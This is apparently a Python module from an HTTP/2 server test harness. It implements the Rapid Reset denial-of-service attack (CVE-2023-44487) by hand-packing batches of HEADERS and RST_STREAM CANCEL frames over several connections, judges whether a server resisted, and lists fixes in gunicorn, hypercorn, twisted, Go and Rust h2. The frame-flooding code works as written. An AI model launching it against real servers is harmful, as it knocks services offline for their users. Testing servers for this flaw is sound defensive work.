"""Rapid Reset (CVE-2023-44487): requests to a route that does work, each opened and cancelled at once (HEADERS
then RST_STREAM CANCEL), stream after stream on several connections at once, so a server that starts the work
of every stream runs requests that never count against its MAX_CONCURRENT_STREAMS (RFC 9113 section 5.1.2).
The route is the reflection route asked for a large answer (about 45 KB, as in the data dribble): what a stream
costs the server once started is the answer it builds. The probe exercised the path when the server answered
or refused streams it had started (their HEADERS or RST_STREAM), or counted the resets (a GOAWAY)."""
import struct

from h2grid.attacks.base import Attack, Fix
from h2grid.attacks.data_dribble import PAD, reflect_request
from h2grid.attacks.hpackraw import literal, request

CANCEL = 0x8
PAIRS = 100  # HEADERS and RST_STREAM pairs per batch
CONNECTIONS = 4


def opening(conn) -> bytes:
    # the padding field into the server's dynamic table, on a request of its own (answered, not reset)
    return conn.headers(conn.stream_id(), request(conn, "GET", "/reflect") + literal(b"x-pad", b"p" * PAD, indexing=True))


_HEADERS, _RST_STREAM, END_STREAM_AND_HEADERS = 0x1, 0x3, 0x5


def _frame(kind: int, flags: int, sid: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", sid) + payload


def batch(conn) -> bytes:
    # frames packed by hand (hyperframe's serialize is what limited the streams a second)
    block = reflect_request(conn)
    cancel = struct.pack(">I", CANCEL)
    frames = bytearray()
    for _ in range(PAIRS):
        sid = conn.stream_id()
        frames += _frame(_HEADERS, END_STREAM_AND_HEADERS, sid, block) + _frame(_RST_STREAM, 0, sid, cancel)
    return bytes(frames)


def exercised(sent: dict) -> str:
    started = sent["received"].get("HEADERS", 0) + sum(sent["rst_codes"].values())
    if started > 1 or any("ENHANCE_YOUR_CALM" in code or "resets" in code.lower() for code in sent["goaway"]):
        return ""
    return (f"the server answered no reset stream ({started} HEADERS or RST_STREAM) and counted no reset "
            f"(GOAWAY {', '.join(sent['goaway']) or 'none'})")


ATTACK = Attack(
    key="rapid-reset", title="Rapid Reset", cve="CVE-2023-44487", rfc="RFC 9113 section 5.1.2 (stream concurrency)",
    sends=f"GET /reflect (a 45 KB answer) and RST_STREAM(CANCEL) at once, {PAIRS} streams per write, on "
          f"{CONNECTIONS} connections at once, reading what the server answers",
    opening=opening, batch=batch, connections=CONNECTIONS, exercised=exercised,
    fixes=(Fix("gunicorn", "27.0.1", "at most 200 RST_STREAM frames per 10 s a connection, then GOAWAY ENHANCE_YOUR_CALM "
                                     "(gunicorn/http2/connection.py and async_connection.py RST_STREAM_RATE_LIMIT; the installed release, earlier ones not checked)"),
           Fix("hypercorn", "0.16.0", "keep_alive_max_requests (default 1000): the connection is closed after "
                                      "1000 requests, reset or not (pgjones/hypercorn#146, commit 926c430)"),
           Fix("twisted", "26.10.0", "a token bucket on the resets a peer sends (burst 1000, 33 a second), then "
                                     "GOAWAY ENHANCE_YOUR_CALM (twisted.web._http2; not in 26.4.0)"),
           Fix("go", "go1.21.3", "handlers bounded to MaxConcurrentStreams, later requests queued, the connection "
                                 "closed when the queue grows (CVE-2023-39325, golang/go#63417; x/net v0.17.0)"),
           Fix("h2-rust", "0.3.17", "max_pending_accept_reset_streams (CVE-2023-26964); hyper declared itself "
                                    "unaffected by CVE-2023-44487 (hyperium/hyper#3337)"),
           Fix("h2", "", "python-hyper's h2 is a state machine without I/O: bounding resets is the server's job")),
)
